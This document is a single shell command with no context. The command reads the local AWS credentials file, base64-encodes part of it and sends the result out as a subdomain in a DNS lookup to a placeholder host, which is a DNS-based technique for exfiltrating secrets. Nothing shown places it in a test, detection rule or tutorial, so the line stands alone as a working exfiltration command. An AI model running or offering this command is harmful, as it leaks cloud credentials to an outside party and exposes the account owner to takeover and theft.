nslookup $(cat ~/.aws/credentials | base64 | head -c 60).x.example.invalid
